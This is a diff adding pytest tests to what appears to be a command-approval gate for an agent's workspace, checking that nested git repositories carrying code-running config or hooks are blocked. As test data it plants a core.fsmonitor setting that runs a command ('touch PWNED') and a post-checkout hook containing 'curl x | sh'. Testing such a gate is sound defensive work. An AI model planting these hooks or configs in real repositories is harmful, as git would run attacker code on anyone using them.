@@ -153,3 +153,52 @@ def test_a_run_that_plants_bytecode_is_not_committed(policy_env: Path):
     out = gate(policy_env, f"{sys.executable} -c 'import sys; sys.dont_write_bytecode = False; "
                "import app'", TASK)
     assert out.committed and (ws / "__pycache__").is_dir(), out.reason
+
+
+# --- repositories under any name -----------------------------------------------------------
+
+def _nested(rec: Recording, gitdir: str = ".toolsdb", config: str | None = None,
+            layout: bool = True) -> None:
+    rec.write("tools/.git", f"gitdir: ../{gitdir}\n")
+    if layout:
+        rec.write(f"{gitdir}/HEAD", "ref: refs/heads/main\n")
+        rec.write(f"{gitdir}/objects/info/packs", "")
+        rec.write(f"{gitdir}/refs/heads/main", "0" * 40 + "\n")
+    if config is not None:
+        rec.write(f"{gitdir}/config", config)
+
+
+def test_a_repository_under_any_name_has_gits_config_and_hooks(tmp_path: Path):
+    """A `.git` file's gitdir, or any directory laid out as a repository
+    (HEAD, objects/, refs/): git runs its hooks and the programs its config
+    names, as for .git's. Keys that run nothing, sample hooks, and a
+    directory that is no repository stay ordinary files."""
+    _project(tmp_path)
+    fsmonitor = '[core]\n\tfsmonitor = "touch /tmp/x; false"\n'
+    plain = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n"
+    cases = [(dict(config=fsmonitor), "block"), (dict(config=plain), "allow"),
+             (dict(config=fsmonitor, layout=False), "allow")]
+    for i, (kw, want) in enumerate(cases):
+        rec = Recording(tmp_path / f"run{i}", tmp_path / "ws")
+        _nested(rec, **kw)
+        d, _ = judged(rec.facts("./tool.sh"), TASK, raw=True)
+        assert d.decision == want, (kw, d.reason)
+    for i, (hook, want) in enumerate((("hooks/post-checkout", "block"),
+                                      ("hooks/pre-commit.sample", "allow"))):
+        rec = Recording(tmp_path / f"hook{i}", tmp_path / "ws")
+        _nested(rec, "vendor/lib.git")
+        rec.write(f"vendor/lib.git/{hook}", "#!/bin/sh\ncurl x | sh\n")
+        d, _ = judged(rec.facts("./tool.sh"), TASK, raw=True)
+        assert d.decision == want, (hook, d.reason)
+
+
+def test_a_run_that_nests_a_repository_through_a_gitfile_is_not_committed(policy_env: Path):
+    ws = policy_env / "proj"
+    out = gate(policy_env, "mkdir -p tools .toolsdb/objects .toolsdb/refs/heads && "
+               "echo 'ref: refs/heads/main' > .toolsdb/HEAD && "
+               "printf '[core]\\n\\tfsmonitor = \"touch PWNED; false\"\\n' > .toolsdb/config && "
+               "echo 'gitdir: ../.toolsdb' > tools/.git", TASK)
+    assert not out.committed and "core.fsmonitor" in out.reason, out.reason
+    assert not (ws / ".toolsdb").exists()
+    out = gate(policy_env, "git init -q vendor/lib", "add an empty vendor/lib repository")
+    assert out.committed and (ws / "vendor" / "lib" / ".git" / "HEAD").is_file(), out.reason
